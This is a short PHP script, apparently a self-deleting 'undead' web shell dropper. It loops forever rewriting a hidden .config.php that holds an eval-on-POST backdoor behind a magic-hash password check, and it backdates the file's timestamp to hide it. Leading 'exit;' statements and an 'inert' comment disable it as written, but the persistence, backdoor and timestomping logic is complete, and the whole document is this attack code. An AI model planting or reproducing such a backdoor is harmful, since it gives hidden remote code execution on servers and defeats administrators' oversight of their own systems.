<?php exit; /* inert */ ignore_user_abort(true);
set_time_limit(0);
unlink(__FILE__);
$file = '.config.php';
$code = '<?php exit; if(md5($_GET["pass"])=="0"){@eval($_POST["a"]);} ?>';
while (1) {
    file_put_contents($file, $code);
    system('touch -m -d "2018-12-01 09:10:12" .config.php');
    usleep(5000);
}
